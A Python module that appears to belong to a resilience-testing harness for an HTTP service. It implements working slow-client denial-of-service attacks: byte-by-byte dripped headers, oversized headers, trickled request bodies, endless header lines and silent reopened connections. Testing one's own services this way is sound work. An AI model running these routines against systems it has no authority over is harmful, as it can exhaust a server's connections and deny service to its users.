"""Clients that are slower than any honest one: heads and bodies by the byte, heads without end, and silence."""

import socket
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from itertools import cycle

from .attack import PATIENCE, Act, Address, Aim, Harvest
from .swift import Flood, tally

_HEAD = b"GET / HTTP/1.1\r\nHost: a\r\n"
_LINE = b"X-Header-Of-Some-Length: " + b"y" * 230 + b"\r\n"
_START = _HEAD + 58 * _LINE
"""15 kB, near what a head may have: the cost of searching it again shows from the first byte on."""
_LARGE_START = _HEAD + 62 * (b"X: " + b"y" * 8000 + b"\r\n")
"""496 kB, near what gunicorn lets 64 header lines have."""
_LONG_BODY = b"POST /v1/classify HTTP/1.1\r\nHost: a\r\nContent-Length: 200000\r\n\r\n\xff\xd8\xff\xe0"
_REOPENED = 50
"""A turn opens at most so many connections again."""


@dataclass(frozen=True)
class Drip:
    """Connections that send a start at once, then a drop each `pause` seconds; a closed one is opened again."""

    connections: int
    start: bytes
    drops: tuple[bytes, ...]
    pause: float

    def run(self, aim: Aim, harvest: Harvest) -> None:
        """Drip for as long as the aim says."""
        deadline = time.monotonic() + aim.seconds
        clients = [_opened(aim.address, self.start) for _ in range(self.connections)]
        for drop in cycle(self.drops):
            turn = time.monotonic()
            if turn > deadline:
                break
            reopened = 0
            for place, client in enumerate(clients):
                if not _dripped(client, drop, harvest) and reopened < _REOPENED:
                    client.close()
                    clients[place] = _opened(aim.address, self.start)
                    reopened += 1
            time.sleep(max(0.0, turn + self.pause - time.monotonic()))
        for client in clients:
            client.close()


def dripped_heads(start: bytes = _START) -> Callable[[Aim], Act]:
    """An attack of a hundred heads that begin with `start`, and grow by a byte each 20 ms."""
    drip = Drip(100, start, tuple(bytes([byte]) for byte in _LINE), 0.02)
    return lambda aim: lambda harvest: drip.run(aim, harvest)


def dripped_large_heads(aim: Aim) -> Act:
    """The same with heads of half a megabyte."""
    return dripped_heads(_LARGE_START)(aim)


def slow_bodies(aim: Aim) -> Act:
    """Bodies of which 20 bytes come each 0.2 s."""
    drip = Drip(aim.size(100, 200), _LONG_BODY, (bytes(20),), 0.2)
    return lambda harvest: drip.run(aim, harvest)


def endless_heads(line: bytes) -> Callable[[Aim], Act]:
    """An attack of heads that go on as `line` for as long as the service reads them."""

    def prepare(aim: Aim) -> Act:
        flood = Flood(aim.size(10, 50), line * (64 * 1024 // len(line)), _HEAD + b"X: ")
        return lambda harvest: flood.run(aim, harvest)

    return prepare


def silent_connections(small: int, full: int) -> Callable[[Aim], Act]:
    """An attack of connections that never send anything; those that the service closes are opened again."""

    def prepare(aim: Aim) -> Act:
        drip = Drip(aim.size(small, full), b"", (b"",), 0.2)
        return lambda harvest: drip.run(aim, harvest)

    return prepare


def _opened(address: Address, start: bytes) -> socket.socket:
    """A connection on its way: a service whose backlog is full does not hold the attacker up."""
    client = socket.socket()
    if not start:
        client.settimeout(0)
    else:
        client.settimeout(PATIENCE)
    client.connect_ex(address)
    with suppress(OSError):
        client.sendall(start)
    client.settimeout(0)
    return client


def _dripped(client: socket.socket, data: bytes, harvest: Harvest) -> bool:
    """Send on, and read what has come; False once the service has closed the connection."""
    try:
        if data:
            client.send(data)
        answer = client.recv(65536)
    except BlockingIOError:
        return True
    except OSError:
        answer = b""
    tally(answer, harvest)
    if not answer:
        harvest.count(None)
    return bool(answer)
